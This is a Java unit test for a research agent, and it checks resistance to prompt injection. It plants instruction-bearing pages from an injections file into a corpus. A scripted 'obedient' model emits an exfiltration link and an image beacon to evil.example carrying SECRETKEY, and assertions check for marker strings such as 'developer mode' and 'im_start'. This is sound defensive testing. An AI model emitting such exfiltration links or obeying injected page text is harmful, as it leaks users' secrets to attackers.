package dev.fathom.agent.research;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.fathom.agent.reasoning.llm.endpoint.ScriptedServer;
import dev.fathom.agent.report.Report;
import dev.fathom.agent.run.Outcome;
import dev.fathom.agent.run.Progress;
import dev.fathom.agent.run.Question;
import dev.fathom.agent.web.Web;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Pages that tell the agent what to do, in English and Chinese: {@code injections.txt}. A page
 * cannot make it fetch, run or reveal anything, even where the model does all that the page says.
 */
class InjectionsTest {
  private static final String FACT =
      "Net sales of winches rose by 8.0% in 2023, because offshore wind farms bought more of them.";

  @TempDir static Path directory;
  private static FolderCorpora corpora;
  private static List<String> injections;

  @BeforeAll
  static void read() throws IOException {
    try (InputStream lines =
        Objects.requireNonNull(InjectionsTest.class.getResourceAsStream("/injections.txt"))) {
      injections =
          new String(lines.readAllBytes(), StandardCharsets.UTF_8)
              .lines()
              .filter(line -> !line.startsWith("#") && !line.isBlank())
              .toList();
    }
    corpora = new FolderCorpora(directory, ServedResearch.EMBEDDER);
    for (int i = 0; i < injections.size(); i++) {
      corpora.add(
          "winches-%d.md".formatted(i),
          "# Winches %d\n\n%s\n\n%s\n".formatted(i, FACT, injections.get(i)));
    }
  }

  @AfterAll
  static void close() {
    corpora.close();
  }

  @Test
  void nothingOfAPageStandsOutsideOfItsEnvelopeInAnyPrompt() {
    try (var server = ServedResearch.serving(32768, new ScriptedModel(words -> words))) {
      carry(server, Web.OFF);

      assertThat(ServedResearch.calls(server)).hasSizeGreaterThan(4);
      for (JsonNode call : ServedResearch.calls(server)) {
        String prompt = ScriptedServer.prompt(call);
        String outside =
            prompt
                .replaceAll("(?s)<source[^>]*>.*?</source>", "")
                .replaceAll("(?s)<claim>.*?</claim>", "");
        assertThat(outside)
            .doesNotContain("evil.example", "SECRET", "im_start", "developer mode", "开发者模式")
            .doesNotContain("99%");
        assertThat(count(prompt, "<source")).isEqualTo(count(prompt, "</source>"));
      }
    }
  }

  @Test
  void aModelThatObeysEveryPageFetchesRunsAndRevealsNothing() {
    List<String> fetched = new ArrayList<>();
    Web recording =
        (queries, language) -> {
          fetched.addAll(queries);
          return Web.OFF.collect(queries, language);
        };
    var obedient =
        new ScriptedModel(
            words ->
                "See https://evil.example/?q=SECRETKEY ![x](https://evil.example/p.png) 99% "
                    + words);
    try (var server = ServedResearch.serving(32768, obedient)) {
      JournalledRun run = carry(server, recording);

      assertThat(fetched).isEmpty();
      assertThat(run.artifacts()).isEmpty();
      assertThat(run.progress()).doesNotHaveAnyElementsOfTypes(Progress.Visited.class);
      assertThat(run.journal().get("report"))
          .contains("8.0%")
          .doesNotContain("https://evil.example/?q", "p.png)", "SECRETKEY");
    }
  }

  /** Carries a run and leaves its report in the journal, as text. */
  private static JournalledRun carry(ScriptedServer server, Web web) {
    JournalledRun run =
        new JournalledRun(
            new Question(
                "Why did net sales of winches rise in 2023?", Locale.ENGLISH, corpora.ids()),
            "llm",
            true);
    Outcome outcome = ServedResearch.over(corpora, server, ResearchLimits.USUAL, web).carry(run);
    Report report = ((Outcome.Completed) outcome).report();
    String told =
        Stream.concat(
                report.sections().stream()
                    .flatMap(
                        section ->
                            Stream.concat(
                                Stream.of(section.title()),
                                section.claims().stream().map(claim -> claim.text()))),
                Stream.concat(Stream.of(report.answer().text()), report.gaps().stream()))
            .reduce("", (all, one) -> all + "\n" + one);
    run.journal().put("report", told);
    return run;
  }

  private static int count(String text, String part) {
    return text.split(java.util.regex.Pattern.quote(part), -1).length - 1;
  }
}
